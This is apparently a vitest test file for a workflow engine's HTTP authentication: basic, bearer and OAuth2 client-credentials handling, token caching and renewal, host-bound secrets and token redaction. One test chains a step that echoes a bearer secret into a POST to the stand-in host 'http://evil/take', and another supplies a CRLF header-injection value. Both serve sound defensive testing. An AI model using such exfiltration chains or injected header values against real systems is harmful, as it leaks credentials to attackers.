/** Calls with `auth`, through an engine. */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { graph, RuntimeFixture, task } from '../../../../test/runtime-fixture.ts';
import type { JsonObject } from '../../../core/value/json.ts';
import type { Engine } from '../../engine.ts';
import { Pulse } from '../../service.ts';

let fixture: RuntimeFixture;
let engine: Engine;
beforeEach(async () => {
  fixture = new RuntimeFixture();
  engine = await fixture.engine();
  for (const [name, value] of Object.entries({
    USER: 'änn',
    PASSWORD: 'p:w',
    KEY: 'key-1',
    ID: 'my id',
    SECRET: 's&1',
  })) {
    fixture.secrets.set(name, value);
  }
});
afterEach(() => fixture.close());

const basic = { type: 'basic', usernameSecret: 'USER', passwordSecret: 'PASSWORD' };
const bearer = { type: 'bearer', secret: 'KEY' };
const oauth = {
  type: 'oauth2ClientCredentials',
  tokenUrl: 'https://login.example/token',
  clientIdSecret: 'ID',
  clientSecretSecret: 'SECRET',
};

/** One call to `http://mock/a`, which is not retried unless `more` says so. */
function calling(auth: JsonObject, request: JsonObject = {}, more: JsonObject = {}): JsonObject {
  const action = { request: { url: 'http://mock/a', verb: 'POST', auth, ...request } };
  return graph([task('a', { action, compensation: false, ...more })]);
}

const retryAtOnce = (maxAttempts: number): JsonObject => ({
  failureHandling: { type: 'retry', maxAttempts, delayMillis: 1 },
});

async function run(definition: JsonObject) {
  return fixture.until(await fixture.submit(engine, definition));
}

function sentTo(path: string): Readonly<Record<string, string>>[] {
  return fixture.http.calls.filter((_, i) => fixture.http.paths()[i] === path).map(({ request }) => request.headers);
}

/** Answers token requests with `token-1`, `token-2` and so on, and calls as `reply` says. */
function issueTokens(more: JsonObject = {}, reply: typeof fixture.http.reply = () => ({})): void {
  fixture.http.reply = (path, request, nth) =>
    path === 'token'
      ? { body: { access_token: `token-${String(nth)}`, token_type: 'Bearer', ...more } }
      : reply(path, request, nth);
}

describe('basic and bearer', () => {
  it('send what the secrets hold when the call leaves', async () => {
    await run(calling(basic));
    await run(calling(bearer));
    fixture.secrets.set('KEY', 'key-2');
    await run(calling(bearer));
    expect(sentTo('a').map((headers) => headers['authorization'])).toEqual([
      `Basic ${Buffer.from('änn:p:w').toString('base64')}`,
      'Bearer key-1',
      'Bearer key-2',
    ]);
  });

  it('leave an Authorization header of the definition alone, and need no secret then', async () => {
    fixture.secrets.clear();
    expect((await run(calling(bearer, { headers: { AUTHORIZATION: 'Own x' } }))).status).toBe('SUCCEEDED');
    expect(sentTo('a')[0]!['authorization']).toBe('Own x');
  });

  it.each([
    [bearer, 'KEY', undefined, 'The secret KEY of the call\'s "auth" is missing.'],
    [basic, 'PASSWORD', undefined, 'The secret PASSWORD of the call\'s "auth" is missing.'],
    [oauth, 'SECRET', undefined, 'The secret SECRET of the call\'s "auth" is missing.'],
    [basic, 'USER', 'a:b', 'The secret USER holds a colon; no user name may.'],
    [bearer, 'KEY', 'a\r\nb: c', 'The secret KEY holds a character that no header may hold.'],
  ])('%j with %s = %j is unsent and not retried', async (auth, name, value, problem) => {
    if (value === undefined) fixture.secrets.delete(name);
    else fixture.secrets.set(name, value);
    const detail = await run(calling(auth, {}, retryAtOnce(3)));
    expect(detail).toMatchObject({ status: 'FAILED', reason: 'unsent', failureDescription: problem });
    expect(fixture.http.calls).toEqual([]);
    expect(await fixture.rows(detail.id)).toHaveLength(1);
  });
});

describe('a bound secret', () => {
  it.each([
    [bearer, 'KEY', 'mock'],
    [basic, 'PASSWORD', 'mock'],
    [oauth, 'SECRET', 'login.example'],
    [oauth, 'ID', 'login.example'],
  ])('of %j is not sent to another host, nor tried again: %s to %s', async (auth, name, host) => {
    const asked: string[] = [];
    fixture.mayGoTo = (secret, url) => {
      asked.push(new URL(url).host);
      return secret !== name;
    };
    expect(await run(calling(auth, {}, retryAtOnce(3)))).toMatchObject({
      reason: 'unsent',
      failureDescription: `The secret ${name} may not go to ${host}: secrets.hosts does not name it.`,
    });
    expect(fixture.http.calls).toEqual([]);
    expect(new Set(asked)).toEqual(new Set([host]));
  });

  it.each([
    [basic, 'USER', undefined],
    [bearer, 'KEY', undefined],
    [oauth, 'SECRET', 'An access token fetched with SECRET'],
  ])('of %j goes to a host that comes from data only where it is named for it', async (auth, name, what) => {
    const definition = calling(auth, { url: '{{payload.url}}' }, retryAtOnce(3));
    const payload = { url: 'http://canary-host/a' };
    fixture.mayGoTo = (_secret, _url, hostFromData) => !hostFromData;
    const detail = await fixture.until(await fixture.submit(engine, definition, { payload }));
    expect(detail).toMatchObject({
      reason: 'unsent',
      failureDescription: `${what ?? `The secret ${name}`} may not go to canary-host, a host that comes from data: secrets.hosts does not name it.`,
    });
    expect(fixture.http.calls).toEqual([]);
    // What data says stays out of the log, which names the template.
    expect(JSON.stringify(fixture.logs)).not.toContain('canary');
    expect(JSON.stringify(fixture.logs)).toContain('may not go to the host of {{payload.url}}');
    issueTokens();
    fixture.mayGoTo = () => true;
    const passed = await fixture.until(await fixture.submit(engine, definition, { payload }));
    expect(passed.status).toBe('SUCCEEDED');
  });

  it('is not carried elsewhere by what echoes it', async () => {
    fixture.mayGoTo = (_secret, url) => !url.startsWith('http://evil/');
    fixture.misplaced = ({ url, body }) =>
      url.startsWith('http://evil/') && body?.includes('key-1') === true ? 'KEY' : undefined;
    fixture.http.reply = (path) => (path === 'echo' ? { body: { said: 'key-1' } } : {});
    const first = { request: { url: 'http://mock/echo', verb: 'POST', auth: bearer } };
    const second = {
      request: { url: 'http://evil/take', verb: 'POST', body: '{{nodes.a.response.body.said}}' },
    };
    const saga = graph([
      task('a', { action: first, compensation: false, next: 'b' }),
      task('b', { action: second, compensation: false, ...retryAtOnce(3) }),
    ]);
    expect(await run(saga)).toMatchObject({
      reason: 'unsent',
      failureDescription: 'The request holds the secret KEY, which may not go to evil: secrets.hosts does not name it.',
    });
    expect(fixture.http.paths()).toEqual(['echo']);
  });

  it('is not sent from a template either', async () => {
    fixture.mayGoTo = (secret, url) => secret !== 'KEY' || !url.startsWith('http://mock/');
    const plain = { request: { url: 'http://mock/a', verb: 'POST', body: 'x {{secrets.KEY}}' } };
    expect(await run(graph([task('a', { action: plain, compensation: false, ...retryAtOnce(3) })]))).toMatchObject({
      reason: 'unsent',
      failureDescription: 'The secret KEY may not go to mock: secrets.hosts does not name it.',
    });
    expect(fixture.http.calls).toEqual([]);
  });
});

describe('OAuth client credentials', () => {
  it('fetch a token as RFC 6749 says, and use it until shortly before it expires', async () => {
    issueTokens({ expires_in: 100 });
    const definition = calling({ ...oauth, scope: 'pay refund', audience: 'https://ledger' });
    await run(definition);
    await run(definition);
    const { request } = fixture.http.calls[0]!;
    expect(request).toMatchObject({
      url: 'https://login.example/token',
      verb: 'POST',
      authorityFromData: false,
      body: 'grant_type=client_credentials&scope=pay+refund&audience=https%3A%2F%2Fledger',
    });
    expect(request.headers).toMatchObject({
      authorization: `Basic ${Buffer.from('my+id:s%261').toString('base64')}`,
      'content-type': 'application/x-www-form-urlencoded',
    });
    await fixture.clock.advance(89_000);
    await run(definition);
    expect(fixture.http.paths()).toEqual(['token', 'a', 'a', 'a']);
    await fixture.clock.advance(1000);
    await run(definition);
    expect(fixture.http.paths().slice(4)).toEqual(['token', 'a']);
    expect(sentTo('a').map((headers) => headers['authorization'])).toEqual([
      ...Array.from({ length: 3 }, () => 'Bearer token-1'),
      'Bearer token-2',
    ]);
  });

  it('fetch one token for all who wait, and another for another scope, audience, client or URL', async () => {
    issueTokens();
    const ids = await Promise.all([1, 2, 3].map(() => fixture.submit(engine, calling(oauth))));
    for (const id of ids) expect((await fixture.until(id)).status).toBe('SUCCEEDED');
    expect(fixture.http.paths()).toEqual(['token', 'a', 'a', 'a']);
    fixture.secrets.set('ID2', 'other');
    const others = [
      { scope: 's' },
      { audience: 's' },
      { clientIdSecret: 'ID2' },
      { clientSecretSecret: 'KEY' },
      { tokenUrl: 'https://two.example/token' },
    ];
    for (const other of others) await run(calling({ ...oauth, ...other }));
    expect(sentTo('token')).toHaveLength(6);
  });

  it('renew a token once when the call is answered 401, within the same attempt', async () => {
    issueTokens({}, (_path, _request, nth) => (nth === 1 ? { status: 401 } : {}));
    const detail = await run(calling(oauth));
    expect(detail.status).toBe('SUCCEEDED');
    expect(fixture.http.paths()).toEqual(['token', 'a', 'token', 'a']);
    expect(sentTo('a').map((headers) => [headers['authorization'], headers['trama-attempt']])).toEqual([
      ['Bearer token-1', '1'],
      ['Bearer token-2', '1'],
    ]);
    expect(new Set(sentTo('a').map((headers) => headers['idempotency-key'])).size).toBe(1);
    expect(await fixture.rows(detail.id)).toHaveLength(1);
  });

  it('take a second 401 for the answer', async () => {
    issueTokens({}, () => ({ status: 401 }));
    expect(await run(calling(oauth))).toMatchObject({ status: 'FAILED', reason: 'status_4xx' });
    expect(fixture.http.paths()).toEqual(['token', 'a', 'token', 'a']);
  });

  it('take the 401 for the answer when no new token comes', async () => {
    fixture.http.reply = (path, _request, nth) =>
      path === 'a' ? { status: 401 } : nth === 1 ? { body: { access_token: 'token-1' } } : { status: 500 };
    expect(await run(calling(oauth))).toMatchObject({ status: 'FAILED', reason: 'status_4xx' });
    expect(fixture.http.paths()).toEqual(['token', 'a', 'token']);
  });

  it.each([
    ['a status', { status: 400, body: { error: 'invalid_client' } }],
    ['a broken connection', { error: 'connect' }],
    ['no token', { body: {} }],
    ['a token that fits no header', { body: { access_token: 'a b c d' } }],
    ['another type of token', { body: { access_token: 'token', token_type: 'mac' } }],
  ] as const)('are unsent and tried again while the token endpoint fails: %s', async (_what, bad) => {
    fixture.http.reply = (path, _request, nth) =>
      path === 'a' ? {} : nth < 3 ? bad : { body: { access_token: 'token-3', token_type: 'bearer' } };
    expect((await run(calling(oauth, {}, retryAtOnce(2)))).status).toBe('SUCCEEDED');
    expect(fixture.http.paths()).toEqual(['token', 'token', 'token', 'a']);
    fixture.http.reply = () => bad;
    const detail = await run(calling({ ...oauth, scope: 'other' }));
    expect(detail).toMatchObject({ status: 'FAILED', reason: 'connect' });
    expect(await fixture.rows(detail.id)).toEqual(['UP:a:unsent']);
    expect(detail.failureDescription).toContain('login.example');
    expect(detail.failureDescription).not.toContain('invalid_client');
  });

  it('are unsent without a retry when egress refuses the token endpoint', async () => {
    fixture.http.reply = () => ({ error: 'refused', sent: false });
    expect(await run(calling(oauth, {}, retryAtOnce(3)))).toMatchObject({ reason: 'unsent' });
    expect(fixture.http.paths()).toEqual(['token']);
  });

  it('wait for a token no longer than the call may take', async () => {
    fixture.http.reply = (path) => (path === 'token' ? 'hold' : {});
    const begun = fixture.clock.monotonic();
    expect(await run(calling(oauth, { timeoutMillis: 500 }))).toMatchObject({ status: 'FAILED', reason: 'connect' });
    expect(fixture.clock.monotonic() - begun).toBeLessThan(1000);
    // Late, but good for the next one.
    fixture.http.calls[0]!.answer({ body: { access_token: 'token-1' } });
    expect((await run(calling(oauth, { timeoutMillis: 500 }))).status).toBe('SUCCEEDED');
    expect(fixture.http.paths()).toEqual(['token', 'a']);
  });

  it('give the call what is left of its time', async () => {
    issueTokens();
    const { reply } = fixture.http;
    fixture.http.reply = (...asked) => ({ ...(reply(...asked) as object), afterMillis: 100 });
    await run(calling(oauth, { timeoutMillis: 500 }));
    expect(fixture.http.calls[1]!.request.timeoutMillis).toBe(400);
  });

  it('say nothing of the downstream to the gate when no token comes', async () => {
    const verdicts: string[] = [];
    fixture.gate = {
      pulse: new Pulse('gate', fixture.clock),
      enter: ({ placeOnly }) => ({
        kind: 'open',
        done: (verdict) => verdicts.push(`${placeOnly === true ? 'token' : 'call'} ${verdict}`),
      }),
      start: () => Promise.resolve(),
      stop: () => Promise.resolve(),
      ended: () => undefined,
      keepOnly: () => undefined,
    };
    await engine.stop({ drainTimeoutMillis: 0 });
    const gated = await fixture.engine();
    fixture.http.reply = () => ({ status: 500 });
    await fixture.until(await fixture.submit(gated, calling(oauth)));
    expect(verdicts).toEqual(['token neutral', 'call neutral']);
  });

  it('keep the tokens out of everything that is kept of an answer', async () => {
    issueTokens({}, (_path, { headers }, nth) => ({
      status: nth === 1 ? 401 : 400,
      body: { echo: headers['authorization'] ?? '', both: 'token-1 token-2' },
      headers: { 'x-echo': headers['authorization'] ?? '' },
    }));
    const { id } = await run(calling(oauth));
    const { items } = await fixture.store.listSteps(id, { limit: 10 });
    const { items: calls } = await fixture.store.listCalls(id, { limit: 10 });
    const kept = JSON.stringify([await fixture.detail(id), items, fixture.logs]);
    expect(kept).toContain('***');
    expect(kept).not.toMatch(/token-\d/);
    const { exchange } = calls[0]!;
    expect(exchange?.responseBody).toBe('{"echo":"Bearer ***","both":"*** ***"}');
    expect(exchange?.responseHeaders?.['x-echo']).toBe('Bearer ***');
  });

  it('keep them also out of what other calls and callbacks bring', async () => {
    issueTokens({}, (_path) => ({ body: { echo: 'token-1', n: 1.0 }, headers: { 'x-echo': 'token-1' } }));
    const first = { mode: 'async', request: { url: 'http://mock/a', verb: 'POST', auth: oauth } };
    const id = await fixture.submit(
      engine,
      graph([
        task('a', { action: { ...first, callback: { timeoutMillis: 60_000 } }, compensation: false, next: 'b' }),
        task('b', { compensation: false }),
      ]),
    );
    await fixture.until(id, 'WAITING_CALLBACK');
    const body = { echo: ['token-1'], 'token-1': 1 };
    expect(await fixture.offer(engine, id, await fixture.callbackOf(id, 'a', body), 'hash')).toBe('accepted');
    await fixture.until(id);
    const { items } = await fixture.store.listSteps(id, { limit: 10 });
    expect(items.map(({ output }) => [output?.callback?.body, output?.response?.headers])).toEqual([
      [undefined, undefined],
      [{ echo: ['***'], '***': 1 }, undefined],
      [undefined, expect.objectContaining({ 'x-echo': '***' })],
    ]);
    expect(JSON.stringify([items, await fixture.detail(id)])).not.toMatch(/token-\d/);
  });
});
